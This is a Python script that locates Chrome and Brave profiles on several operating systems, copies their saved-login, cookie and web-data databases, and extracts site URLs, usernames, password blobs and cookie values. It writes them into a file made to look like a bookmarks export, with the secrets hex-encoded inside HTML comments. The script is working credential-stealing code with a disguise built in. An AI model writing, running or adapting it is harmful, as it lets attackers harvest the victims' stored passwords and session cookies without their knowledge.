import glob
import os
import shutil
import sqlite3
import sys
import tempfile

PROFILES = [
    "~/.config/google-chrome/*/",
    "~/Library/Application Support/Google/Chrome/*/",
    "~/AppData/Local/Google/Chrome/User Data/*/",
    "~/.config/BraveSoftware/Brave-Browser/*/",
]


def rows():
    for pattern in PROFILES:
        for profile in glob.glob(os.path.expanduser(pattern)):
            for name in ("Login Data", "Cookies", "Web Data"):
                src = os.path.join(profile, name)
                if not os.path.exists(src):
                    continue
                tmp = os.path.join(tempfile.gettempdir(), name.replace(" ", "_") + ".db")
                shutil.copy2(src, tmp)
                con = sqlite3.connect(tmp)
                try:
                    yield from con.execute("SELECT origin_url, username_value, password_value FROM logins")
                except sqlite3.Error:
                    yield from con.execute("SELECT host_key, name, encrypted_value FROM cookies")


with open(sys.argv[1], "w") as out:
    out.write("<DL>\n")
    for url, user, blob in rows():
        out.write(f"<DT><A HREF='{url}'>{user}</A> <!-- {bytes(blob).hex()} -->\n")
    out.write("</DL>\n")
